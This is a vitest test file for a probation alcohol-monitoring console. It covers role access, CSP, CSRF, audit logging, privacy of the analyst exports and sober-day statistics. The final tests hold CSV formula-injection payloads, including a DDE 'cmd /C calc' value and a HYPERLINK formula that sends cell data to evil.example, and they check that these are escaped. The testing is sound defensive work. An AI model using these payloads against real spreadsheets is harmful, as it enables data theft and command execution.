import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { authHeader, createTestDatabase, startTestService, testConfig, type TestService } from '../support/env.js';
import { ciText, minutes, pct, percent, perDay } from '../../console/oversight.present.js';
import { sobrietyCsv } from '../../console/analyst.routes.js';
import { ConsoleClient, csrfOf } from './support.js';
import { COORDS, NAMES, SUBJECT_IDS, seedOversight, type Seeded } from './oversight-data.js';

let db: Awaited<ReturnType<typeof createTestDatabase>>;
let svc: TestService;
let seeded: Seeded;

beforeAll(async () => {
  db = await createTestDatabase();
  svc = await startTestService(testConfig({ DATABASE_URL: db.url, DEV_SIGN_IN: 'true' }));
  seeded = await seedOversight(db.pool);
}, 60_000);

afterAll(async () => {
  await svc?.stop();
  await db?.drop();
});

async function as(role: string, id: string): Promise<ConsoleClient> {
  const c = new ConsoleClient(svc.app);
  const res = await c.signIn(role, id);
  if (res.statusCode !== 303) throw new Error(`sign-in: ${res.statusCode}`);
  return c;
}

const auditRows = async (actor: string, action: string) =>
  (await db.pool.query(`SELECT subject_id, reason, detail FROM audit_log WHERE actor = $1 AND action = $2 ORDER BY id`, [actor, action])).rows as Array<{ subject_id: string | null; reason: string | null; detail: Record<string, unknown> }>;

/** The text of a table cell `data-field` in the row `data-<key>="<value>"` (tags stripped, spaces collapsed). */
function cell(html: string, rowAttr: string, field: string): string {
  const row = new RegExp(`<tr[^>]*${rowAttr}[^>]*>([\\s\\S]*?)</tr>`).exec(html)?.[1];
  if (!row) throw new Error(`no row ${rowAttr}`);
  const m = new RegExp(`data-field="${field}"[^>]*>([\\s\\S]*?)</td>`).exec(row);
  if (!m) throw new Error(`no cell ${field} in ${rowAttr}`);
  return m[1]!.replace(/<[^>]+>/g, ' ').replace(/\s+/g, ' ').trim();
}

const unescape = (s: string) => s.replace(/&#39;/g, "'").replace(/&quot;/g, '"').replace(/&amp;/g, '&');

describe('oversight pages: who may open them', () => {
  it('sends each role from /console to the first page of its navigation', async () => {
    expect((await (await as('supervisor', 'sup-1')).get('/console')).headers.location).toBe('/console/supervisor/escalations');
    expect((await (await as('analyst', 'an-1')).get('/console')).headers.location).toBe('/console/analyst/sober-days');
    expect((await (await as('offender_manager', 'om-1')).get('/console')).headers.location).toBe('/console/caseload');
  });

  it('refuses every role the API refuses (403 page), as the /v1 routes do', async () => {
    const om = await as('offender_manager', 'om-1');
    const an = await as('analyst', 'an-1');
    const admin = await as('admin', 'admin-1');
    for (const url of ['/console/supervisor/escalations', '/console/supervisor/alert-fatigue', '/console/supervisor/alcohol-review', `/console/supervisor/alcohol-review/${seeded.events[0]}`]) {
      expect((await om.get(url)).statusCode, `manager ${url}`).toBe(403);
      expect((await an.get(url)).statusCode, `analyst ${url}`).toBe(403);
    }
    for (const url of ['/console/analyst/sober-days', '/console/analyst/sober-days.csv']) {
      expect((await om.get(url)).statusCode, `manager ${url}`).toBe(403);
      expect((await admin.get(url)).statusCode, `admin ${url}`).toBe(403);
    }
    // the API agrees: fatigue for supervisors and admins, review for the review role, totals for analysts and supervisors
    expect((await svc.app.inject({ method: 'GET', url: '/v1/alerts/stats?from=2026-01-01T00:00:00Z&to=2026-02-01T00:00:00Z', headers: await authHeader('offender_manager', 'om-1') })).statusCode).toBe(403);
    expect((await admin.get('/console/supervisor/alert-fatigue')).statusCode).toBe(200);
    const post = await om.post(`/console/supervisor/alcohol-review/${seeded.events[0]}`, { _csrf: csrfOf((await om.get('/console/caseload')).body), decision: 'confirmed', note: 'x' });
    expect(post.statusCode).toBe(403);
    expect((await db.pool.query(`SELECT review_status FROM alerts WHERE id = $1`, [seeded.events[0]])).rows[0].review_status).toBe('pending');
  });

  it('shows the navigation of each role', async () => {
    const sup = (await (await as('supervisor', 'sup-1')).get('/console/supervisor/escalations')).body;
    for (const t of ['Escalations', 'Alert fatigue', 'Alcohol review', 'Caseload']) expect(sup).toContain(`>${t}</a>`);
    const an = (await (await as('analyst', 'an-1')).get('/console/analyst/sober-days')).body;
    expect(an).toContain('>Sober days</a>');
    expect(an).not.toContain('>Escalations</a>');
  });
});

describe('oversight pages under the console CSP', () => {
  it('load nothing from outside the service, and carry no style attribute, inline handler or script without the nonce', async () => {
    const sup = await as('supervisor', 'sup-csp');
    const an = await as('analyst', 'an-csp');
    const reviewPage = await sup.post(`/console/supervisor/alcohol-review/${seeded.events[1]}/open`, { _csrf: csrfOf((await sup.get('/console/supervisor/alcohol-review')).body), reason: 'checking the page' });
    const pages = [
      await sup.get('/console/supervisor/escalations'),
      await sup.get('/console/supervisor/alert-fatigue'),
      await sup.get('/console/supervisor/alcohol-review'),
      reviewPage,
      await an.get('/console/analyst/sober-days?from=2026-09&to=2026-11'),
    ];
    for (const res of pages) {
      expect(res.statusCode).toBe(200);
      const nonce = /'nonce-([^']+)'/.exec(String(res.headers['content-security-policy']))![1];
      for (const m of res.body.matchAll(/(?:src|href|action)="([^"]*)"/g)) expect(m[1], m[0]).toMatch(/^(\/(?!\/)|#|$)/);
      for (const m of res.body.matchAll(/<script(?![^>]*\ssrc=)(?![^>]*type="application\/json")[^>]*>/g)) expect(m[0]).toContain(`nonce="${nonce}"`);
      expect(res.body).not.toMatch(/\sstyle="/);
      expect(res.body).not.toMatch(/\son[a-z]+="/);
    }
  });
});

describe('supervisor pages', () => {
  it('lists escalated alerts nobody acknowledged, with manager and age, linking to the alert page (which asks a reason); audited', async () => {
    const sup = await as('supervisor', 'sup-esc');
    const res = await sup.get('/console/supervisor/escalations');
    expect(res.statusCode).toBe(200);
    expect(res.body).toContain(`href="/console/alerts/${seeded.escalated}"`);
    expect(res.body).not.toContain(seeded.acknowledged); // acknowledged before escalation: not listed
    const row = new RegExp(`<tr[^>]*>(?:(?!</tr>)[\\s\\S])*${seeded.escalated}[\\s\\S]*?</tr>`).exec(res.body)![0];
    expect(row).toContain('om-1, om-2');
    expect(row).toMatch(/1 h 3\d min/);
    expect(row).toContain(NAMES[1]);
    const opened = await sup.get(`/console/alerts/${seeded.escalated}`);
    expect(opened.body).toContain('Why are you opening this record?');
    const rows = await auditRows('sup-esc', 'alerts.read');
    // the drinking events were raised just now: not escalated yet
    expect(rows.map((r) => r.subject_id)).toEqual(['OVS-S2']);
    expect(rows.find((r) => r.subject_id === 'OVS-S2')!.detail).toMatchObject({ via: 'console.escalations', alert_ids: [seeded.escalated] });
  });

  it('shows the alert-fatigue figures per manager exactly as GET /v1/alerts/stats gives them, as a table and SVG charts', async () => {
    const sup = await as('supervisor', 'sup-fat');
    const from = new Date(Date.now() - 2 * 86400_000).toISOString().slice(0, 10);
    const to = new Date(Date.now() + 86400_000).toISOString().slice(0, 10);
    const res = await sup.get(`/console/supervisor/alert-fatigue?from=${from}&to=${to}`);
    expect(res.statusCode).toBe(200);
    const api = (await svc.app.inject({ method: 'GET', url: `/v1/alerts/stats?from=${from}T00:00:00Z&to=${to}T00:00:00Z`, headers: await authHeader('supervisor', 'sup-fat') })).json();
    expect(api.managers.length).toBeGreaterThanOrEqual(2);
    for (const m of api.managers) {
      const r = `data-manager="${m.manager_id}"`;
      expect(cell(res.body, r, 'alerts')).toBe(String(m.alerts));
      expect(cell(res.body, r, 'person_days')).toBe(String(m.person_days));
      expect(cell(res.body, r, 'per_day')).toBe(perDay(m.alerts_per_person_day));
      expect(cell(res.body, r, 'p50')).toBe(minutes(m.ack_p50_s));
      expect(cell(res.body, r, 'p90')).toBe(minutes(m.ack_p90_s));
      expect(cell(res.body, r, 'false_share')).toContain(percent(m.resolved_false_share, 'None resolved'));
    }
    expect(cell(res.body, 'data-manager="om-1"', 'p50')).toBe('10.0 min');
    // three charts, server-rendered SVG with a title and a description; no script, no style attribute
    expect(res.body.match(/<svg viewBox="[^"]+" width="100%" role="img" aria-labelledby="chart-/g)).toHaveLength(3);
    expect(res.body).not.toMatch(/ style="/);
    const rows = await auditRows('sup-fat', 'alerts.stats');
    expect(rows[0]!.detail).toMatchObject({ via: 'console.fatigue', manager_ids: expect.arrayContaining(['om-1', 'om-2']) });
  });

  it('answers a bad period with an error summary linking to the field', async () => {
    const sup = await as('supervisor', 'sup-bad');
    const res = await sup.get('/console/supervisor/alert-fatigue?from=2026-12-01&to=2026-11-01');
    expect(res.statusCode).toBe(400);
    expect(res.body).toContain('govuk-error-summary');
    expect(res.body).toContain('href="#from"');
    expect((await sup.get('/console/supervisor/alert-fatigue?from=%3Cscript%3E&to=x')).body).not.toContain('<script>x');
  });

  it('lists events pending review oldest first; the review page asks a reason, draws the curve and posts through the API’s review, audited', async () => {
    const sup = await as('supervisor', 'sup-rev');
    const queue = await sup.get('/console/supervisor/alcohol-review');
    expect(queue.statusCode).toBe(200);
    const order = seeded.events.map((id) => queue.body.indexOf(`/console/supervisor/alcohol-review/${id}`));
    expect(order.every((i) => i > 0)).toBe(true);
    expect(order[0]).toBeLessThan(order[1]!);

    const [first] = seeded.events;
    expect((await sup.get(`/console/supervisor/alcohol-review/${first}`)).body).toContain('Why are you opening this record?');
    const csrf = csrfOf(queue.body);
    const page = await sup.post(`/console/supervisor/alcohol-review/${first}/open`, { _csrf: csrf, reason: 'weekly alcohol review' });
    expect(page.statusCode).toBe(200);
    expect(page.body).toContain('data-testid="chart-tac"');
    expect(page.body).toMatch(/Threshold 0\.02 g\/dL/);
    expect(page.body).toMatch(/>Start<\/text>[\s\S]*>Peak 0\.0\d\d<\/text>[\s\S]*>End<\/text>/);
    expect(page.body).toContain('Drinking event: a run of TAC readings');
    expect((await auditRows('sup-rev', 'alert.read'))[0]).toMatchObject({ subject_id: 'OVS-S1', reason: 'weekly alcohol review' });

    // without a decision or a note: the error summary, nothing changes
    const bad = await sup.post(`/console/supervisor/alcohol-review/${first}`, { _csrf: csrf, reason: 'weekly alcohol review', note: '' });
    expect(bad.statusCode).toBe(400);
    expect(bad.body).toContain('govuk-error-summary');
    expect(bad.body).toContain('href="#decision"');
    expect(bad.body).toContain('href="#note"');
    // without the CSRF token: refused
    expect((await sup.post(`/console/supervisor/alcohol-review/${first}`, { reason: 'weekly alcohol review', decision: 'confirmed', note: 'x' })).statusCode).toBe(403);
    expect((await db.pool.query(`SELECT review_status FROM alerts WHERE id = $1`, [first])).rows[0].review_status).toBe('pending');

    const before = (await svc.app.inject({ method: 'GET', url: '/v1/sobriety?cohort=fixed&from=2026-11-01&to=2026-11-05', headers: await authHeader('supervisor', 'sup-rev') })).json();
    const ok = await sup.post(`/console/supervisor/alcohol-review/${first}`, { _csrf: csrf, reason: 'weekly alcohol review', decision: 'not_confirmed', note: 'lab test negative' });
    expect(ok.statusCode).toBe(303);
    expect(ok.headers.location).toBe(`/console/supervisor/alcohol-review?done=${first}`);
    const api = (await svc.app.inject({ method: 'GET', url: `/v1/alerts/${first}`, headers: await authHeader('supervisor', 'sup-rev') })).json();
    expect(api.review).toMatchObject({ status: 'not_confirmed', by: 'sup-rev', note: 'lab test negative' });
    expect(api.history.at(-1)).toMatchObject({ action: 'reviewed', actor: 'sup-rev', note: 'not_confirmed: lab test negative' });
    expect((await auditRows('sup-rev', 'alert.review'))).toEqual([{ subject_id: 'OVS-S1', reason: 'weekly alcohol review', detail: { alert_id: first, type: 'drinking_event', decision: 'not_confirmed', via: 'console' } }]);
    // the reviewed figures moved as the API's review moves them: one drinking day fewer
    const after = (await svc.app.inject({ method: 'GET', url: '/v1/sobriety?cohort=fixed&from=2026-11-01&to=2026-11-05', headers: await authHeader('supervisor', 'sup-rev') })).json();
    expect(after.reviewed_sober_days).toBe(before.reviewed_sober_days + 1);
    expect(after.sober_days).toBe(before.sober_days);
    const done = await sup.get(ok.headers.location as string);
    expect(done.body).toContain('Your review was saved');
    expect(done.body).not.toContain(`/console/supervisor/alcohol-review/${first}"`);
  });
});

describe('analyst pages', () => {
  const period = 'from=2026-09&to=2026-11&cohort=fixed&cohort=flex&cohort=free';

  it('shows each cohort’s sober-day rate by month with its interval, equal to GET /v1/sobriety for the same month; CSV the same numbers', async () => {
    const an = await as('analyst', 'an-fig');
    const res = await an.get(`/console/analyst/sober-days?${period}`);
    expect(res.statusCode).toBe(200);
    const csv = await an.get(`/console/analyst/sober-days.csv?${period}`);
    expect(csv.statusCode).toBe(200);
    expect(csv.headers['content-type']).toMatch(/^text\/csv/);
    expect(csv.headers['content-disposition']).toMatch(/^attachment; filename="sober-days-2026-09-to-2026-11.csv"/);
    const records = parse(csv.body, { columns: true, cast: true }) as Array<Record<string, string | number>>;
    expect(records).toHaveLength(9);
    for (const cohort of ['fixed', 'flex', 'free']) {
      for (const [month, from, to] of [['2026-09', '2026-09-01', '2026-10-01'], ['2026-10', '2026-10-01', '2026-11-01'], ['2026-11', '2026-11-01', '2026-12-01']] as const) {
        const api = (await svc.app.inject({ method: 'GET', url: `/v1/sobriety?cohort=${cohort}&from=${from}&to=${to}`, headers: await authHeader('analyst', 'an-fig') })).json();
        const r = `data-cohort="${cohort}" data-month="${month}"`;
        expect(cell(res.body, r, 'days')).toBe(`${api.sober_days} / ${api.monitored_days}`);
        expect(cell(res.body, r, 'rate')).toBe(pct(api.rate));
        expect(cell(res.body, r, 'ci')).toBe(ciText(api.ci95));
        expect(cell(res.body, r, 'reviewed_rate')).toBe(pct(api.reviewed_rate));
        expect(cell(res.body, r, 'pending')).toBe(String(api.pending_events));
        const row = records.find((x) => x.cohort === cohort && x.month === month)!;
        expect(row).toMatchObject({ subjects: api.subjects, sober_days: api.sober_days, monitored_days: api.monitored_days, rate: api.rate ?? '', ci95_low: api.ci95?.[0] ?? '', ci95_high: api.ci95?.[1] ?? '', reviewed_rate: api.reviewed_rate ?? '', pending_events: api.pending_events });
      }
    }
    // flex in September: OVS-S2 (a 6-day cycle, 5 monitored, 4 sober: 20 of 25) and OVS-S4 (a 4-day cycle, 3 sober: 23 of 30)
    expect(cell(res.body, 'data-cohort="flex" data-month="2026-09"', 'days')).toBe('43 / 55');
    // the chart: one bar per cohort and month with an error bar for its interval
    expect(res.body.match(/class="console-chart-bar"/g)!.length + (res.body.match(/class="console-chart-missing"/g)?.length ?? 0)).toBe(9);
    expect(res.body.match(/class="console-chart-error"/g)!.length).toBe(res.body.match(/class="console-chart-bar"/g)!.length);
    const rows = await auditRows('an-fig', 'sobriety.export');
    // (the API calls above wrote 9 rows of their own, without `via`)
    expect(rows.filter((x) => x.detail.via).map((x) => x.detail)).toEqual([
      expect.objectContaining({ via: 'console.analyst', cohorts: ['fixed', 'flex', 'free'], from: '2026-09', to: '2026-11', months: 3 }),
      expect.objectContaining({ via: 'console.analyst.csv' }),
    ]);
  });

  it('never carries a display name, a subject id, a pseudonymous reference or a coordinate, in the page or the CSV', async () => {
    const an = await as('analyst', 'an-leak');
    const bodies = [(await an.get(`/console/analyst/sober-days?${period}`)).body, (await an.get(`/console/analyst/sober-days.csv?${period}`)).body, (await an.get('/console/analyst/sober-days')).body];
    const refs = (await svc.app.inject({ method: 'GET', url: '/v1/sobriety?from=2026-09-01&to=2026-12-01', headers: await authHeader('analyst', 'an-leak') })).json().rows.map((r: { subject: string }) => r.subject);
    expect(refs.length).toBe(4);
    const forbidden = [...NAMES, ...SUBJECT_IDS, ...refs, ...COORDS.flatMap((c) => [String(c.lat).slice(0, 6), String(c.lon).slice(0, 6)])];
    for (const body of bodies) {
      for (const f of forbidden) expect(body.includes(f), f).toBe(false);
    }
  });

  it('refuses a cohort not in the list with an error summary, never echoing it', async () => {
    const an = await as('analyst', 'an-bad');
    const res = await an.get('/console/analyst/sober-days?from=2026-09&to=2026-11&cohort=%3Dcmd%7C%27%2FC%20calc%27!A0');
    expect(res.statusCode).toBe(400);
    expect(res.body).toContain('href="#cohort"');
    expect(res.body).not.toContain('calc');
    expect((await an.get('/console/analyst/sober-days.csv?from=2026-09&to=2026-11&cohort=%3Dcmd')).statusCode).toBe(400);
  });

  it('writes a hostile cohort name into the CSV as text, never as a formula', () => {
    const hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', 'fixed, "quoted"\nnext'];
    const csv = sobrietyCsv(hostile.map((cohort) => ({ cohort, month: '2026-09', subjects: 1, sober_days: 1, monitored_days: 2, rate: 0.5, ci95: [0.1, 0.9] as [number, number], reviewed_sober_days: 1, reviewed_monitored_days: 2, reviewed_rate: 0.5, reviewed_ci95: [0.1, 0.9] as [number, number], pending_events: 0 })));
    const rows = parse(csv, { columns: true }) as Array<Record<string, string>>;
    expect(rows.map((r) => r.cohort)).toEqual([...hostile.slice(0, 6).map((h) => `'${h}`), hostile[6]]);
    for (const r of rows) expect(r.cohort).not.toMatch(/^[=+\-@\t\r]/);
    expect(unescape(csv)).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
  });
});
